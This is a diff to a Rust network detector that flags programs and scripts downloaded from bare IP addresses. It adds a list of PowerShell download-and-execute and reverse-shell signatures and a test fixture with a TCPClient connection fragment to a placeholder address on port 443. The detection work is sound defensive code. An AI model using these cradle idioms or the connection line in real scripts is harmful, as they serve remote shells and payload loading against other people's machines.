@@ -7,7 +7,8 @@
 //! ## How it decides
 //! The answer to a GET begins as a program does (ELF, `MZ` with a PE header, a shell script), and the host was asked for
 //! by its address, or the name of the file is one of a processor (`.arm7`, `mips`, `x86`), or the kind that was
-//! announced is a picture, a page or a folder. Also told: a file asked of the Internet by TFTP, high if it is one of a
+//! announced is a picture, a page or a folder. Of scripts: those of a shell, and those of PowerShell that load and run
+//! more, or call somebody. Also told: a file asked of the Internet by TFTP, high if it is one of a
 //! processor, else low.
 //! ## What fools it
 //! Programs in archives; anything encrypted.
@@ -45,6 +46,20 @@ const TFTP: Port = 69;
 /// Endings that promise something harmless.
 const HARMLESS: [&str; 8] = [".png", ".jpg", ".jpeg", ".gif", ".txt", ".html", ".ico", ".css"];
 
+/// What scripts of PowerShell say that load and run something, or let somebody in; in lower case.
+const CRADLES: [&[u8]; 6] = [
+    b"net.sockets.tcpclient(",
+    b"new-object net.webclient",
+    b"new-object system.net.webclient",
+    b").downloadstring(",
+    b"invoke-expression",
+    b"[system.convert]::frombase64string(",
+];
+
+fn holds_any_case(body: &[u8], sign: &[u8]) -> bool {
+    body.windows(sign.len()).any(|part| part.eq_ignore_ascii_case(sign))
+}
+
 /// See the page above.
 pub struct ToolDownload {
     bell: Bell,
@@ -62,6 +77,7 @@ fn program(body: &[u8]) -> Option<&'static str> {
         [0x7f, b'E', b'L', b'F', ..] => Some("ELF"),
         [b'M', b'Z', ..] if holds(body, b"PE\0\0") || holds(body, b"DOS mode") => Some("PE"),
         [b'#', b'!', b'/', ..] if holds(body, b"sh") => Some("script"),
+        _ if CRADLES.iter().any(|sign| holds_any_case(body, sign)) && !body.starts_with(b"<") => Some("script"),
         _ => None,
     }
 }
@@ -185,5 +201,13 @@ mod tests {
         assert_eq!(fetch("example.com", "/logo.png", b"MZ\x90\0This program cannot be run in DOS mode"), 1);
         assert_eq!(fetch("example.com", "/setup.exe", b"MZ\x90\0This program cannot be run in DOS mode"), 0);
         assert_eq!(fetch("203.0.113.9", "/logo.png", b"\x89PNG"), 0);
+        let cradle = b"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.9',443);$s=$c.GetStream()";
+        assert_eq!(fetch("203.0.113.9", "/a.ps1", cradle), 1);
+        assert_eq!(fetch("example.com", "/install.ps1", cradle), 0, "of a host with a name");
+        assert_eq!(
+            fetch("203.0.113.9", "/help", b"<html>Use Invoke-Expression with care</html>"),
+            0,
+            "a page about it"
+        );
     }
 }
